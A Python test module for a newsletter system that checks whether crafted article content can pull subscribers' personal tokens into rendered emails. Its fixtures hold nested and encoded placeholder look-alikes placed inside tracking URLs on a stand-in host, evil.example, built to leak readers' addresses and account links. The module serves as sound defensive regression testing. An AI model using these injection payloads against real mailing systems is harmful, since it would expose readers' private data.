"""Content that tries to become a reader's personal values: nested, split, entity-encoded and
unknown-field look-alikes of the personal tokens, in every article field, from a feed
(media:content included) and from the admin API, sent over real SMTP to real readers.

Before per-render nonces, `__NL___NL_email____` survived the scrub as `__NL_email__`, and every
reader's copy then carried their address and account links to the publisher's server."""

from __future__ import annotations

import html
import re
from email.message import EmailMessage
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from newsletter.articles.ingest import ingest_feeds
from newsletter.config import FeedConfig, Settings, load_settings
from newsletter.context import AppContext
from newsletter.database.models import Delivery
from newsletter.editions.sending import drain
from newsletter.editions.service import start_edition
from newsletter.rendering import DigestRenderer
from newsletter.rendering.placeholders import DIGEST_FIELDS
from tests.articles.feeds import rss, rss_item
from tests.conftest import ADMIN_TOKEN, SECRET_KEY, SettingsFactory
from tests.rendering.articles import EDITION_DATE, article
from tests.subscriptions.helpers import serve
from tests.support.factories import add_subscribers
from tests.support.smtp import SmtpServer

FIELDS = ("email", "unsubscribe_url", "preferences_url", "confirm_url", "password")
# What an earlier scrub turned into a real token, and its relatives.
LOOK_ALIKES = [
    "__NL___NL_email____",
    "__NL_unsub__NL_x__scribe_url__",
    "__NL___NL___NL_preferences_url______",
    "__NL_confirm_url__",
    "__NL___NL_confirm_url____",
    "__N__NL_email__L_email__",
    "__N__NL_email__L_confirm_url__",
    "__NL_con__NL_x__firm_url__",
    "__NL_unsubscr__NL_email__ibe_url__",
    "&#95;&#95;NL_email&#95;&#95;",
    "&#x5f;&#x5f;NL_unsubscribe_url&#x5f;&#x5f;",
    "%5F%5FNL_email%5F%5F",
    "__NL_EMAIL__",
    "__NL_password__",
]
EVIL = "https://evil.example/track"


def hostile_pushes() -> list[dict[str, str]]:
    return [
        {
            "title": f"Prize {alike} today",
            "url": f"{EVIL}/{n}?u={alike}",
            "image_url": f"{EVIL}/pixel-{n}.gif?who={alike}",
            "summary": f"<p>See {alike} and <a href='{EVIL}/s{n}?l={alike}'>this</a></p>",
            "author": f"By {alike}",
            "section": f"World {n}",
        }
        for n, alike in enumerate(LOOK_ALIKES)
        if "%" not in alike or n % 2 == 0
    ]


def hostile_feed() -> bytes:
    items = [
        rss_item(
            f"Feed prize {alike}",
            f"{EVIL}/feed/{n}?x={alike}",
            description=f"Summary {alike}",
            pub_date=None,
            extra=f'<media:content url="{html.escape(f"{EVIL}/media-{n}.jpg?w={alike}")}" medium="image"/>',
        )
        for n, alike in enumerate(LOOK_ALIKES)
    ]
    return rss(*items)


def body(message: EmailMessage, kind: str) -> str:
    part = message.get_body((kind,))
    assert part is not None
    content: str = part.get_content()
    return content


def evil_urls(text: str) -> list[str]:
    return re.findall(r"https://evil\.example[^\s\"'<>)]*", html.unescape(text))


async def test_look_alikes_never_reach_a_readers_values(
    make_settings: SettingsFactory, admin_headers: dict[str, str], smtp_server: SmtpServer, tmp_path: Path
) -> None:
    newsletter = {"id": "daily", "name": "The Daily Briefing", "max_articles": 100}
    async with serve(make_settings(newsletters=[newsletter])) as (client, context):
        await send_hostile_edition(client, context, admin_headers, smtp_server, tmp_path)


async def send_hostile_edition(
    client: httpx.AsyncClient,
    context: AppContext,
    admin_headers: dict[str, str],
    smtp_server: SmtpServer,
    tmp_path: Path,
) -> None:
    feed = tmp_path / "hostile.xml"
    feed.write_bytes(hostile_feed())
    pushed = await client.post("/api/articles", json=hostile_pushes(), headers=admin_headers)
    assert pushed.status_code == 200, pushed.text
    [report] = await ingest_feeds(context, [FeedConfig(url=str(feed))])
    assert report.error is None and report.new == len(LOOK_ALIKES)
    # Subscribed to every section: every hostile article reaches every reader.
    readers = await add_subscribers(context, 3, prefix="victim")
    edition = await start_edition(context, "daily")
    assert edition.status == "sending"
    await drain(context, editions={edition.id})

    async with context.db.session() as session:
        statuses = dict(
            (
                await session.execute(
                    select(Delivery.status, func.count())
                    .where(Delivery.edition_id == edition.id)
                    .group_by(Delivery.status)
                )
            ).all()
        )
    assert statuses == {"sent": len(readers)}  # one bad article stops nothing
    received = smtp_server.handler.messages()
    assert len(received) == len(readers)
    for item in received:
        message = item.message()
        address = item.rcpt_tos[0]
        text, page = body(message, "plain"), body(message, "html")
        for part in (text, page):
            urls = evil_urls(part)
            assert urls, "the hostile articles should be in the digest"
            for url in urls:
                assert "@" not in url and "/unsubscribe/" not in url and "/preferences/" not in url, url
            # The look-alikes are shown as the text they are.
            assert "__NL___NL_email____" in html.unescape(part)
        # Personal values appear where the template puts them, and nowhere else.
        assert page.count("/unsubscribe/") == 1 and page.count("/preferences/") == 1
        assert text.count("/unsubscribe/") == 1 and text.count("/preferences/") == 1
        assert page.count(address) == text.count(address) == 1
        assert message["To"] == address


@pytest.fixture(scope="module")
def plain_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    empty = tmp_path_factory.mktemp("hostile-content") / "empty.toml"
    empty.touch()
    security = {"secret_key": SECRET_KEY, "admin_token": ADMIN_TOKEN}
    return load_settings(empty, overrides={"security": security})


NASTY_PIECES = st.sampled_from(["__", "_", "NL", "__NL_", *FIELDS, "&#95;", "x", " ", "\u200b"])


@given(pieces=st.lists(NASTY_PIECES, min_size=1, max_size=24))
@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
def test_no_content_makes_a_token(pieces: list[str], plain_settings: Settings) -> None:
    """Whatever a title, link, image or summary spells, the rendering's tokens are exactly the
    template's own."""
    nasty = "".join(pieces)
    story = article(
        f"Title {nasty}",
        summary=f"<p>{nasty}</p>",
        url=f"https://news.example/a?q={nasty.replace(' ', '')}",
    )
    story.image_url = f"https://news.example/i.jpg?{nasty.replace(' ', '')}"
    story.author = nasty
    rendered = DigestRenderer(plain_settings).render_digest(
        plain_settings.newsletters[0], EDITION_DATE, [story]
    )
    tokens = rendered.tokens
    untracked = DIGEST_FIELDS - {"reader_tag"}  # reader_tag: in tracked links only
    assert tokens.fields_in(rendered.html, rendered.text) == untracked
    for field in untracked:
        assert rendered.html.count(tokens.token(field)) >= 1
    control = DigestRenderer(plain_settings).render_digest(
        plain_settings.newsletters[0], EDITION_DATE, [article("Title", summary="<p>x</p>")]
    )
    for field in DIGEST_FIELDS:
        assert rendered.html.count(tokens.token(field)) == control.html.count(control.tokens.token(field))
        assert rendered.text.count(tokens.token(field)) == control.text.count(control.tokens.token(field))
